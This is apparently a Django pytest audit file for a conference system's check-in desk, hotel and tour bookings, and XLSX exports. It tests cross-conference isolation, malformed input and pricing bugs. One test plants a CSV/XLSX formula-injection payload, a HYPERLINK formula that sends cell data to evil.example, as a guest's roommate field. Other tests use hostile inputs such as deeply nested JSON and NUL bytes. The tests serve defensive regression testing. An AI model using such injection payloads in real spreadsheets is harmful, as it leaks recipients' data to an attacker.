"""Audit of issue 8 (hotels, tours, QR codes, letters, the check-in desk): another conference's ids
through the desk's URL and JSON, bad input that must be a 400 rather than a 500, inventory and
money on the paths the other tests do not take, and spreadsheets handed to hotels.

Tests whose docstring says "Fixed bug" were written against a defect, fixed since."""

# The fixtures of tests/attendance/bookings/conftest.py are imported, then named as arguments.
# ruff: noqa: F811

import datetime
import io
import json
import uuid
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone, translation

from attendance.booking_enums import TourBookingState
from attendance.booking_exceptions import BookingClosed
from attendance.booking_exports import participants_xlsx, rooming_list_xlsx
from attendance.enums import RegistrationState
from attendance.models import CheckIn, HotelBooking, RegistrationType, RoomType, Tour, TourBooking
from attendance.services.hotels import book_room, change_booking
from attendance.services.registrations import withdraw_registration
from attendance.services.tokens import reissue_token, token_for
from attendance.services.tours import accept_tour_offer, book_tour, join_waiting_list
from cms.enums import Role
from cms.exceptions import IllegalTransition
from cms.services.conferences import grant_role
from commerce.enums import OrderState
from commerce.models import Order, Payment
from commerce.services.orders import expire_order
from commerce.services.payments import confirm_payment
from tests.attendance.bookings.conftest import (  # noqa: F401  (fixtures)
    double,
    hotel,
    lodging,
    make_registration,
    make_tour,
    registration,
    tour,
)
from tests.attendance.bookings.helpers import day, make_room_type, nights_taken
from tests.attendance.conftest import RegistrationFactory

pytestmark = pytest.mark.django_db
S = RegistrationState


# Fixtures and helpers ----------------------------------------------------------------------------


@pytest.fixture
def desk_staff(conference, user_factory):
    user = user_factory(email="desk@example.org")
    grant_role(conference=conference, user=user, role=Role.CHECKIN, notify=False)
    return user


@pytest.fixture
def desk(desk_staff):
    """The desk's browser; a view's exception is answered with a 500 rather than raised."""
    client = Client(raise_request_exception=False)
    client.force_login(desk_staff)
    return client


@pytest.fixture
def li(conference, regular):
    return RegistrationFactory(
        conference=conference, registration_type=regular, state=S.CONFIRMED, code="NCIC-R0001", name_zh="李雷"
    )


@pytest.fixture
def elsewhere(make_conference_row):
    """Another conference with a confirmed and an unpaid registration."""
    other = make_conference_row(slug="other2027", acronym="OTHER 2027")
    kind = RegistrationType.objects.create(conference=other, name_zh="代表", name_en="Delegate")
    confirmed = RegistrationFactory(conference=other, registration_type=kind, state=S.CONFIRMED, code="OTH-R0001")
    unpaid = RegistrationFactory(conference=other, registration_type=kind, code="OTH-R0002")
    return other, confirmed, unpaid


def api(name, conference):
    return reverse(f"desk:{name}", args=[getattr(conference, "pk", conference)])


def post(client, url, data):
    body = data if isinstance(data, str) else json.dumps(data)
    return client.post(url, body, content_type="application/json")


def pay(order):
    payment = Payment.objects.create(order=order, provider="bank_transfer", amount=order.total, currency=order.currency)
    confirm_payment(payment=payment, amount=order.total, currency=order.currency)


# The desk: another conference's ids ---------------------------------------------------------------


def test_staff_of_two_conferences_cannot_act_on_one_through_the_others_desk(conference, desk_staff, desk, elsewhere):
    """Staff who check people in at both conferences still cannot scan, undo or take a payment for
    conference B through conference A's desk: B's ids are unknown there."""
    other, confirmed, unpaid = elsewhere
    grant_role(conference=other, user=desk_staff, role=Role.CHECKIN, notify=False)
    theirs = post(desk, api("scan", other), {"token": token_for(confirmed), "desk": "B1"}).json()
    assert post(desk, api("scan", conference), {"token": token_for(confirmed)}).json() == {"status": "not_a_code"}
    assert desk.get(api("lookup", conference), {"token": token_for(confirmed)}).json() == {"status": "not_a_code"}

    undo = post(desk, api("undo", conference), {"check_in": theirs["check_in"]["id"]})
    paid = post(desk, api("pay", conference), {"registration": unpaid.pk})

    assert (undo.status_code, paid.status_code) == (400, 400)
    assert CheckIn.objects.get(pk=theirs["check_in"]["id"]).undone_at is None
    assert not Payment.objects.exists()


def test_another_conferences_staff_and_anonymous_visitors_cannot_undo_or_pay(
    conference, desk, li, elsewhere, user_factory
):
    scanned = post(desk, api("scan", conference), {"token": token_for(li)}).json()
    staff_there = user_factory(email="desk@other.example.org")
    grant_role(conference=elsewhere[0], user=staff_there, role=Role.CHECKIN, notify=False)
    stranger = Client()
    stranger.force_login(staff_there)

    for client in (Client(), stranger):
        assert post(client, api("undo", conference), {"check_in": scanned["check_in"]["id"]}).status_code == 403
        assert post(client, api("pay", conference), {"registration": li.pk}).status_code == 403
    assert CheckIn.objects.get().undone_at is None


def test_a_reissued_code_is_not_a_code_online_or_in_an_offline_upload(conference, desk, li, organizer):
    old = token_for(li)
    new = reissue_token(registration=li, by=organizer)
    batch = {"desk": "3", "scans": [{"scan_id": str(uuid.uuid4()), "token": old}]}

    assert post(desk, api("scan", conference), {"token": old}).json() == {"status": "not_a_code"}
    assert post(desk, api("sync", conference), batch).json()["results"][0]["status"] == "not_a_code"
    assert not CheckIn.objects.exists()
    assert post(desk, api("scan", conference), {"token": new}).json()["status"] == "checked_in"


# The desk: bad input -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "at",
    [
        "2026-02-30T10:00:00+00:00",  # no such day
        "2026-01-01T10:00:00+99:00",  # no such offset
        "0001-01-01T00:30:00+01:00",  # before year 1 in UTC
    ],
)
def test_an_offline_upload_with_an_impossible_scan_time_is_not_a_500(conference, desk, li, regular, at):
    """Fixed bug: ``desk._when`` lets ``parse_datetime``'s ValueError and ``astimezone``'s OverflowError
    out: the upload is a 500 after the scans before the bad one were saved, and the desk's queue
    is stuck, resending the same batch for ever."""
    other = RegistrationFactory(conference=conference, registration_type=regular, state=S.CONFIRMED)
    batch = {
        "desk": "Desk 3",
        "scans": [
            {"scan_id": str(uuid.uuid4()), "token": token_for(li)},
            {"scan_id": str(uuid.uuid4()), "token": token_for(other), "at": at},
        ],
    }

    response = post(desk, api("sync", conference), batch)

    assert response.status_code == 200
    assert [result["status"] for result in response.json()["results"]] == ["checked_in", "checked_in"]


def test_deeply_nested_json_is_a_400(conference, desk):
    """Fixed bug: ``desk._json_body`` catches ValueError only; ``json.loads`` of deeply nested arrays
    (well under the 512 KB limit) raises RecursionError: a 500 instead of "not valid JSON"."""
    body = "[" * 100_000 + "]" * 100_000

    for name in ("scan", "sync", "undo", "pay"):
        assert post(desk, api(name, conference), body).status_code == 400, name


def test_a_nul_character_in_the_desk_name_search_or_reference_is_not_a_500(conference, desk, li, regular):
    """Fixed bug: text from the JSON body and the query string reaches PostgreSQL unchecked; a NUL
    character (``\\u0000``) makes psycopg raise: the scan, the search and the payment are 500s."""
    unpaid = RegistrationFactory(conference=conference, registration_type=regular)

    scanned = post(desk, api("scan", conference), {"token": token_for(li), "desk": "Desk\u00002"})
    searched = desk.get(api("search", conference), {"q": "李雷\x00"})
    paid = post(desk, api("pay", conference), {"registration": unpaid.pk, "reference": "现金\u0000"})

    assert scanned.status_code == 200 and scanned.json()["status"] == "checked_in"
    assert searched.status_code == 200
    assert paid.status_code in (200, 400)


def test_huge_ids_and_oversized_batches_are_refused_without_saving(conference, desk, li):
    too_many = {"scans": [{"scan_id": str(uuid.uuid4()), "token": token_for(li)}] * 501}
    forged = "zzzzzzzzzzzz." + "a" * 24  # the largest pk a token can name

    assert desk.get(api("counts", 10**20)).status_code == 403
    assert post(desk, api("scan", 10**20), {"token": token_for(li)}).json() == {"status": "not_a_code"}
    assert post(desk, api("undo", conference), {"check_in": 10**30}).status_code == 400
    assert post(desk, api("pay", conference), {"registration": 10**30}).status_code == 400
    assert post(desk, api("scan", conference), {"token": forged}).json() == {"status": "not_a_code"}
    assert post(desk, api("sync", conference), too_many).status_code == 400
    assert post(desk, api("sync", conference), {"scans": [1, "x", None, []]}).json() == {"results": []}
    assert not CheckIn.objects.exists()


def test_a_cancelled_registration_cannot_be_paid_at_the_desk(conference, desk, regular):
    cancelled = RegistrationFactory(conference=conference, registration_type=regular, state=S.CANCELLED)

    response = post(desk, api("pay", conference), {"registration": cancelled.pk})

    assert response.status_code == 400 and response.json()["error"]
    assert not Order.objects.exists() and not Payment.objects.exists()


# Hotels and tours ----------------------------------------------------------------------------------


def _cells(content):
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows(min_row=2) for cell in row]


def test_the_rooming_list_and_participant_list_hold_what_attendees_typed_as_text(
    conference, hotel, double, tour, make_registration
):
    """Fixed bug: attendees' roommate, special requests and names go into the XLSX sent to the hotel as
    typed; openpyxl stores a value starting with "=" as a formula, so a guest can plant
    ``=HYPERLINK(…)`` (or worse) in the hotel's spreadsheet. Such cells must stay text."""
    guest = make_registration(name_zh="", first_name="=1+1", last_name="")
    book_room(
        registration=guest, room_type=double, check_in=day(conference, 0), check_out=day(conference, 1),
        roommate='=HYPERLINK("https://evil.example/?"&J2,"details")', requests="=2+3",
    )  # fmt: skip
    book_tour(registration=guest, tour=tour)

    for content in (rooming_list_xlsx(hotel, language="en"), participants_xlsx(tour, language="en")):
        formulas = [cell.value for cell in _cells(content) if cell.data_type == "f"]
        assert formulas == []


def test_changing_only_the_requests_of_a_paid_booking_after_a_price_rise(conference, registration, double):
    """Fixed bug: ``change_booking`` re-prices every change at today's rate, so once the organizer
    raises a room's price, a paid booking cannot even change its special requests ("the change
    would alter its price"), and a pending one is silently billed at the new rate."""
    paid = book_room(
        registration=registration, room_type=double, check_in=day(conference, 0), check_out=day(conference, 2)
    )
    pay(paid.order)
    RoomType.objects.filter(pk=double.pk).update(price=Decimal("720.00"))

    try:
        changed = change_booking(booking=paid, requests="高楼层")
    except BookingClosed:
        changed = None

    assert changed is not None, "a paid booking could not change its requests"
    assert (changed.amount, changed.order_id, changed.order.state) == (Decimal("1360.00"), paid.order_id, "paid")


def test_a_pending_booking_keeps_its_price_when_only_the_roommate_changes(conference, make_registration, double):
    """Fixed bug: see above: a roommate change replaces the pending order with one at the new rate."""
    booking = book_room(
        registration=make_registration(), room_type=double, check_in=day(conference, 0), check_out=day(conference, 1)
    )
    RoomType.objects.filter(pk=double.pk).update(price=Decimal("720.00"))

    changed = change_booking(booking=booking, roommate="韩梅梅")

    assert (changed.amount, changed.order_id) == (Decimal("680.00"), booking.order_id)


def test_the_hotel_page_refuses_another_conferences_room_type_and_bad_input(
    client, conference, registration, double, make_conference_row
):
    from attendance.models import Hotel

    other = make_conference_row(slug="else2027", acronym="ELSE", hotels_enabled=True)
    foreign = make_room_type(Hotel.objects.create(conference=other, name_zh="别家"), rooms=None)
    client.force_login(registration.user)
    with translation.override("en"):
        hotels = reverse("attendance:hotels", kwargs={"conference_slug": conference.slug})
        change = reverse("attendance:hotel_change", kwargs={"conference_slug": conference.slug, "pk": 10**20})
    dates = {"check_in": day(conference, 0), "check_out": day(conference, 1)}

    responses = [
        client.post(hotels, {"room_type": foreign.pk, **dates}),
        client.post(hotels, {"room_type": "1e9", **dates}),
        client.post(hotels, {"room_type": double.pk, "check_in": "2027-02-30", "check_out": "x"}),
        client.post(hotels, {"room_type": double.pk, **dates, "requests": "a\x00b"}),
    ]

    assert [response.status_code for response in responses] == [200, 200, 200, 200]
    assert client.get(change).status_code == 404
    assert not HotelBooking.objects.exists() and not Order.objects.exists()
    assert set(nights_taken(double).values()) == {0}


def test_withdrawing_gives_the_tour_place_to_the_next_person_and_cancels_the_order(
    registration, tour, make_registration
):
    mine = book_tour(registration=registration, tour=tour)
    book_tour(registration=make_registration(), tour=tour)  # the tour (two places) is full now
    waiting = join_waiting_list(registration=make_registration(), tour=tour)

    withdraw_registration(registration=registration, user=registration.user)

    mine.refresh_from_db()
    waiting.refresh_from_db()
    assert (mine.state, waiting.state) == (TourBookingState.CANCELLED, TourBookingState.OFFERED)
    assert Order.objects.get(pk=mine.order_id).state == OrderState.CANCELLED


def test_a_place_freed_after_the_tour_started_cannot_be_accepted_and_billed(tour, make_registration):
    """Fixed bug: ``accept_tour_offer`` checks neither the tour's cutoff nor its start: an order that
    expires once the tour is under way offers its seat to the next person waiting, who is then
    sold a place on a tour that has already left."""
    booked = book_tour(registration=make_registration(), tour=tour)
    book_tour(registration=make_registration(), tour=tour)
    waiting = join_waiting_list(registration=make_registration(), tour=tour)
    Tour.objects.filter(pk=tour.pk).update(starts_at=timezone.now() - datetime.timedelta(hours=1))
    expire_order(order=booked.order)
    waiting.refresh_from_db()

    assert waiting.state == "waiting"  # nothing is offered on a tour that has left
    with pytest.raises((BookingClosed, IllegalTransition)):
        accept_tour_offer(booking=waiting)

    assert TourBooking.objects.get(pk=waiting.pk).order_id is None
